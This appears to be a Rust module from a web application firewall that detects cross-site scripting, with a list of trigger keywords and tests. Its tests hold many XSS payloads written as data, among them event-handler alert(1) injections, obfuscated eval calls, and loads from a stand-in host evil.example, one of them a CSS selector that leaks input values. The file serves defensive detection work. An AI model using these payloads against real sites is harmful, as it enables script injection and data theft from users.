//! Cross-site scripting by the grammar of HTML and JavaScript: elements that browsers would open,
//! attributes they would run, URLs they would execute, expressions that run where they stand.

mod attribute;
mod element;
mod event;
mod script;
mod style;
mod tag;
mod url;

use super::{Hits, Text};
use crate::waf::Part;
use crate::waf::scan::Needles;

/// Without one of these nothing here can fire. Event attributes outside a tag count by known names
/// alone, and few words of prose hold their beginnings.
pub(super) const TRIGGERS: &[&str] = &[
    "<",
    "script",
    "vbs:",
    "document",
    "window",
    "alert",
    "prompt",
    "confirm",
    "eval",
    "constructor",
    "data:",
    "expression(",
    "expr/*",
    "-moz-binding",
    "[value",
    "srcdoc",
    "formaction",
    "[]",
    "fromcharcode",
    "atob",
    "settimeout",
    "setinterval",
    "function",
    "self[",
    "top[",
    "this[",
    "parent[",
    "frames[",
    "location",
    "import(",
    "fetch(",
    "open(",
    "print(",
    "storage.",
    "globalthis",
    "globaleval",
    ".source+",
    "hasinstance",
    "new image",
    "throw ",
    "$event.",
    "orderby:",
    "onab",
    "onac",
    "onaf",
    "onan",
    "onap",
    "onau",
    "onbe",
    "onbl",
    "onbo",
    "onca",
    "onch",
    "oncl",
    "onco",
    "oncu",
    "ondb",
    "onde",
    "ondr",
    "ondu",
    "onem",
    "onen",
    "oner",
    "onfi",
    "onfo",
    "onfu",
    "onge",
    "ongo",
    "onha",
    "onin",
    "onke",
    "onla",
    "onlo",
    "onme",
    "onmo",
    "onms",
    "onof",
    "onon",
    "onor",
    "onpa",
    "onpl",
    "onpo",
    "onpr",
    "onra",
    "onre",
    "onsc",
    "onse",
    "onsh",
    "onsl",
    "onsn",
    "onst",
    "onsu",
    "onti",
    "onto",
    "ontr",
    "onun",
    "onvo",
    "onwa",
    "onwe",
    "onwh",
    "onzo",
];

/// What is looked for in a whole view.
pub(super) static SETS: &[&Needles<'static>] = &[&style::SIGNS, &script::HIDDEN];

/// Names the rules that the text breaks.
pub(super) fn detect(text: &Text<'_>, hits: &mut Hits) {
    if text.part == Part::File {
        return;
    }
    element::detect(text.lower, text.part.is_name(), hits);
    attribute::detect(text.lower, hits);
    style::detect(text.lower, hits);
    url::detect(text.lower, hits);
    script::detect(text.lower, hits);
}

#[cfg(test)]
mod tests {
    use super::*;

    fn stops(text: &str) -> bool {
        let mut hits = Hits::default();
        let lower = text.to_ascii_lowercase();
        let text = Text {
            lower: lower.as_bytes(),
            part: Part::Form,
            name: "",
        };
        detect(&text, &mut hits);
        hits.iter()
            .any(|hit| hit.rule.severity == crate::waf::Severity::Critical)
    }

    #[test]
    fn what_could_act_is_found() {
        for text in [
            "<svg\x0conload=alert(1)",
            "<img src='x'onerror=alert(1)>",
            "<x onclick=alert(1)>",
            "\" autofocus onfocus=alert(1) x=\"",
            "x onmouseover=alert(1)",
            "';alert(1)//",
            "\\\"-alert(1)//",
            "*/alert(1)/*",
            "hello ${alert(1)}",
            "x=\"alert(1)\"",
            "setTimeout`alert`",
            "a=alert,a(1)",
            "onerror=eval;throw'=alert'",
            "[1].find(alert)",
            "window['al'+'ert'](1)",
            "setTimeout('al'+'ert(1)')",
            "'\"><b>x",
            "[x](java\tscript:alert(1))",
            "<base href=//evil.example>",
            "<script>function a() { '}' } b()</script>",
            "<script>function a() { /{/ } alert(1) /}/ }</script>",
            "<script>function a(b = alert(1)) { } a()</script>",
            "x <script> a(b)",
            "<script src=\"https://platform.twitter.com.evil.example/widgets.js\"></script>",
            "<iframe src=\"https://www.google.com.evil.example/maps/\"></iframe>",
            "<object data=\"//evil.example/a.pdf\"></object>",
            "<object classid=\"x\" data=\"/a.pdf\"></object>",
            "<embed src=\"/a.pdf\" code=\"x\">",
            "<embed src=\"data:text/html,x.pdf\">",
            "<meta http-equiv=refresh content=0>",
            "<img src='//evil.example/?",
            "<form id=x><input id=attributes>",
            "input[value^=a]{background:url(//evil.example/a)}",
            "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9",
        ] {
            assert!(stops(text), "{text}");
        }
    }

    #[test]
    fn what_could_not_is_not() {
        for text in [
            "<p>Note: on = yes, only = 5, <b>onset</b> = 3</p>",
            "Vec<Script>, Map<String, Object> and ::<Script>::new()",
            "put it between <script> and </script> tags",
            "Using onclick=\"foo()\" in HTML is considered bad practice",
            "button.onclick = function () { show(); };",
            "<button onClick={() => setCount(count + 1)}>Clicked</button>",
            "<Button android:onClick=\"send\" />",
            "https://maps.example/js?onload=ready&render=explicit",
            "Don't call alert('x') in a loop",
            "eval() is evil, do not use it",
            "a medical alert(s) was issued",
            "How can I read document.cookie in React?",
            "window.location.href is read-only in my test",
            "setTimeout(() => setOpen(false), 3000);",
            "`setTimeout` and `setInterval` and `alert`",
            "<a href=\"javascript:void(0)\">More</a>",
            "<a onclick=\"return confirm('Delete it?')\">x</a>",
            "<meta http-equiv=\"refresh\" content=\"5; url=/home\">",
            "<meta charset=\"utf-8\"><link rel=\"icon\" href=\"/favicon.ico\">",
            "<iframe src=\"https://www.youtube.com/embed/abc\"></iframe>",
            "background: url(data:image/svg+xml;base64,PHN2Zy8+)",
            "level=alert,priority=high",
            "What's <script defer> for?",
            "<script>\nfunction hello() {\n  show(\"}\");\n}\n</script>",
            "<script async src=\"//www.instagram.com/embed.js\"></script>",
            "<h1>x</h1> lalu <script src=\"app.js\"></script> sebelum </body>",
            "<iframe src=\"https://www.google.com/maps?q=monas&output=embed\"></iframe>",
            "<object data=\"/files/plan.pdf\" type=\"application/pdf\"></object>",
            "<embed src=\"/files/plan.pdf\">",
        ] {
            assert!(!stops(text), "{text}");
        }
    }
}
